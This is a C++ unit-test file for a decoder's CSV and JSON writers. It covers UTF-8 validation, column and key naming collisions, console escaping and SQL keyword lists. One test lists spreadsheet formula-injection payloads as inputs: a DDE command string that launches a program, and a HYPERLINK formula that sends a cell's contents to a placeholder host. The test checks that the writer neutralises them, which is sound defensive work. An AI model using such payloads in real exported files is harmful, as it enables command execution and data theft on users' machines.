// Names and cells that load and cannot harm: names kept as the same octets in the CSV header and
// the JSON keys; two fields that one key or one column would join refused; the keyword lists; text
// cells that a spreadsheet would run as formulas made inert on request. (What each database
// refuses in a table's names, and whole runs with such names: end-to-end cases.)
#include <gtest/gtest.h>

#include <string>
#include <vector>

#include "common/text_format.h"
#include "decode/writers/csv_layout.h"
#include "decode/writers/csv_writer.h"
#include "decode/writers/json_lines_writer.h"
#include "decode/writers/record_text.h"
#include "decode/writers/sql_words.h"
#include "walk_fixture.h"

namespace orvalis {
namespace {

TEST(Utf8, ValidOnlyInTheShortestFormAndWithinUnicode) {
  struct Row { std::string octets; bool valid; };
  const Row rows[] = {
      {"", true},
      {"plain ascii", true},
      {"n\xC3\xBAmero", true},                 // ú
      {"\xE2\x82\xAC", true},                  // €, three octets
      {"\xF0\x9F\x93\x9E", true},              // a telephone receiver, four octets
      {"\xF4\x8F\xBF\xBF", true},              // U+10FFFF, the last
      {"n\xFAmero", false},                    // ISO 8859-1
      {"\xC3", false},                         // cut short
      {"\xE2\x82", false},
      {"\x80", false},                         // a continuation octet alone
      {"\xC0\xAF", false},                     // overlong
      {"\xC1\xBF", false},
      {"\xE0\x9F\xBF", false},
      {"\xF0\x8F\xBF\xBF", false},
      {"\xED\xA0\x80", false},                 // a surrogate
      {"\xF4\x90\x80\x80", false},             // above U+10FFFF
      {"\xF5\x80\x80\x80", false},
      {"\xE2\x28\xA1", false},                 // a second octet that continues nothing
      {"\xF0\x9F\x93\x28", false},
  };
  for (const Row& row : rows) EXPECT_EQ(IsValidUtf8(row.octets), row.valid) << ConsoleName(row.octets, true);
}

// A valid UTF-8 name is the same octets in JSON and CSV; any other name keeps the record formats'
// rule for octets (each above 0x7F one character).
TEST(Names, AreTheirOwnOctetsWhenValidUtf8) {
  struct Row { std::string name, json, csv; };
  const Row rows[] = {
      {"n\xC3\xBAmero", "\"n\xC3\xBAmero\"", "n\xC3\xBAmero"},
      {"n\xFAmero", "\"n\xC3\xBAmero\"", "n\xC3\xBAmero"},
      {"a\"b,c", "\"a\\\"b,c\"", "\"a\"\"b,c\""},
      {"t\xC3\xA9l\tx", "\"t\xC3\xA9l\\tx\"", "t\xC3\xA9l\tx"},
  };
  for (const Row& row : rows) {
    TextBuffer json, csv;
    AppendJsonName(json, row.name);
    AppendCsvName(csv, row.name);
    EXPECT_EQ(json.view(), row.json);
    EXPECT_EQ(csv.view(), row.csv);
  }
}

TEST(Names, OnTheConsoleControlOctetsAreShownAsEscapes) {
  EXPECT_EQ(ConsoleName("esc\x1B[31mred.ber"), "esc\\x1B[31mred.ber");
  EXPECT_EQ(ConsoleName(std::string("a\0b\x7F\n", 5)), "a\\x00b\\x7F\\x0A");
  EXPECT_EQ(ConsoleName("d\xC3\xAD" "a.ber"), "d\xC3\xAD" "a.ber");
  EXPECT_EQ(ConsoleName("d\xED" "a.ber", true), "d\\xEDa.ber");
}

// With InertFormulas, a text cell that would be a formula gets a leading "'", inside its quotes.
TEST(Cells, FormulasMadeInertOnRequest) {
  struct Row { std::string text, plain, inert; };
  const Row rows[] = {
      {"=HYPERLINK(\"http://x\"&A1,\"click\")", "\"=HYPERLINK(\"\"http://x\"\"&A1,\"\"click\"\")\"",
       "\"'=HYPERLINK(\"\"http://x\"\"&A1,\"\"click\"\")\""},
      {"=cmd|' /C calc'!A0", "=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"},
      {"+1", "+1", "'+1"},
      {"-2", "-2", "'-2"},
      {"@SUM(A1)", "@SUM(A1)", "'@SUM(A1)"},
      {"\tx", "\tx", "'\tx"},
      {"\rx", "\"\rx\"", "\"'\rx\""},
      {"a=b", "a=b", "a=b"},
      {"", "", ""},
  };
  for (const Row& row : rows) {
    TextBuffer plain, inert;
    AppendCsvText(plain, row.text, false);
    AppendCsvText(inert, row.text, true);
    EXPECT_EQ(plain.view(), row.plain);
    EXPECT_EQ(inert.view(), row.inert);
  }
}

// Two fields of one record that one column name would join are refused, naming both paths; a
// name shared by the records at two places (the top level, a block) is one column, as before. More
// columns than the CSV is given are refused, whether a field's occurrences or the columns before it
// pass the bound.
TEST(CsvLayout, FieldsOfOneRecordThatOneColumnWouldJoinAreRefused) {
  struct Row { std::vector<std::string> lines; std::string problem; };
  const std::string kTooMany = "the dictionary gives the CSV more than 100000 columns (Occurs multiplies them)";
  const Row rows[] = {
      {{"1.0.TagName=a.b", "1.1.TagName=a", "1.1.0.TagName=b"},
       "the fields at 1.0 and 1.1.0 would both have the CSV column \"a.b\": give one of them another TagName"},
      {{"1.0.TagName=n", "1.0.Occurs=2", "1.1.TagName=n#2"},
       "the fields at 1.0 and 1.1 would both have the CSV column \"n#2\": give one of them another TagName"},
      {{"1.0.TagName=g", "1.0.Occurs=2", "1.0.0.TagName=v", "1.1.TagName=g#2", "1.1.0.TagName=v"},
       "the fields at 1.0.0 and 1.1.0 would both have the CSV column \"g#2.v\": give one of them another TagName"},
      {{"1.0.TagName=n", "1.1.TagName=n#2"}, ""},  // n has one column: n#2 is only the field's
      {{"1.0.TagName=n", "2.TagName=record", "2.LongTagName=R", "2.0.TagName=n"}, ""},
      {{"1.0.TagName=x", "1.0.Type=String", "1.1.TagName=x_hex"}, ""},
      {{"1.0.TagName=g", "1.0.Occurs=1000", "1.0.0.TagName=h", "1.0.0.Occurs=99", "1.1.TagName=m", "1.1.Occurs=999"},
       ""},
      {{"1.0.TagName=g", "1.0.Occurs=1000", "1.0.0.TagName=h", "1.0.0.Occurs=99", "1.1.TagName=m", "1.1.Occurs=1000"},
       kTooMany},
      {{"1.0.TagName=g", "1.0.Occurs=1000", "1.0.0.TagName=h", "1.0.0.Occurs=101"}, kTooMany},
      {{"1.0.TagName=n\xFAmero"},
       "the dictionary's names of the CSV column \"n\\xFAmero\" are not valid UTF-8, which the CSV header and a "
       "table's names must be"},
  };
  for (const Row& row : rows) {
    auto root = test::BuildDictionary({"1.TagName=record", "1.LongTagName=R"});
    for (const std::string& line : row.lines) ApplyTagsLine(*root, line);
    CsvLayout layout;
    std::string problem;
    EXPECT_EQ(MakeCsvLayout(*root, false, layout, problem), row.problem.empty()) << row.lines[0];
    EXPECT_EQ(problem, row.problem);
  }
}

// With CdrHeaderColumns=true the CDR header's columns follow offset, and a dictionary field of one of
// their names is refused, as "file" is; without it the field is a column like any other.
TEST(CsvLayout, CdrHeaderColumnsAndTheFieldsOfTheirNames) {
  for (const bool columns : {false, true}) {
    for (const char* field : {"cdrRelease", "cdrTsNumber", "release"}) {
      SCOPED_TRACE(std::string(field) + (columns ? " with CdrHeaderColumns" : ""));
      auto root = test::BuildDictionary({"1.TagName=record", "1.LongTagName=R", std::string("1.0.TagName=") + field});
      CsvLayout layout;
      std::string problem;
      const bool refused = columns && std::string(field) != "release";
      EXPECT_EQ(MakeCsvLayout(*root, false, layout, problem, false, true, ValueTypes::Catalog(), columns), !refused);
      if (refused) {
        EXPECT_EQ(problem, std::string("the dictionary names a field \"") + field +
                               "\", a CSV column of each record's CDR header (CdrHeaderColumns=true): give its tag "
                               "another TagName");
        continue;
      }
      EXPECT_EQ(CsvHeader(layout), columns ? std::string("record,offset,cdrRelease,cdrVersion,cdrFormat,cdrTsNumber,") +
                                                 field + ",errors\r\n"
                                           : std::string("record,offset,") + field + ",errors\r\n");
    }
  }
}

// In JSON Lines a String's octets after a NUL go under "X_hex", and the N-th occurrence of X
// under "X#N": a field of such a name beside X is refused; alone it is a field like any other.
TEST(JsonKeys, FieldsThatOneKeyWouldJoinAreRefused) {
  struct Row { std::vector<std::string> lines; std::string problem; };
  const Row rows[] = {
      {{"1.0.TagName=n", "1.0.Type=String", "1.1.TagName=n_hex"},
       "the fields at 1.0 and 1.1 would both have the JSON key \"n_hex\": give one of them another TagName"},
      {{"1.0.TagName=n", "1.0.Type=HexNumber", "1.1.TagName=n_hex"}, ""},
      {{"1.1.TagName=n_hex", "1.1.Type=HexNumber"}, ""},
      {{"1.0.TagName=n", "1.1.TagName=n#2"},
       "the fields at 1.0 and 1.1 would both have the JSON key \"n#2\": give one of them another TagName"},
      {{"1.2.TagName=g", "1.2.0.TagName=n", "1.2.1.TagName=n#19"},
       "the fields at 1.2.0 and 1.2.1 would both have the JSON key \"n#19\": give one of them another TagName"},
      {{"1.0.TagName=n", "1.1.TagName=n#1", "1.2.TagName=n#02", "1.3.TagName=n#x", "1.4.TagName=#2"}, ""},
      {{"1.0.TagName=n", "1.5.TagName=other", "1.5.0.TagName=n#2"}, ""},  // not siblings
  };
  for (const Row& row : rows) {
    auto root = test::BuildDictionary({"1.TagName=record", "1.LongTagName=R"});
    for (const std::string& line : row.lines) ApplyTagsLine(*root, line);
    std::string problem;
    EXPECT_EQ(JsonKeysAreSound(*root, problem), row.problem.empty()) << row.lines[0];
    EXPECT_EQ(problem, row.problem);
  }
}

// The keyword lists are sorted (they are searched by halves), and each word is lower case.
TEST(SqlWords, SortedLowerCaseAndFound) {
  for (std::size_t i = 0; i < kSqlKeywordCount; ++i) {
    const std::string_view word = kSqlKeywords[i].Word;
    if (i > 0) {
      EXPECT_LT(kSqlKeywords[i - 1].Word, word);
    }
    for (char c : word) EXPECT_TRUE((c >= 'a' && c <= 'z') || c == '_') << word;
    EXPECT_EQ(SqlKeywordKinds(word), kSqlKeywords[i].Kinds) << word;
  }
  EXPECT_EQ(SqlKeywordKinds("records"), 0);
  EXPECT_EQ(SqlKeywordKinds("transaction"), kPgUnreserved | kSqlite);
}

}  // namespace
}  // namespace orvalis
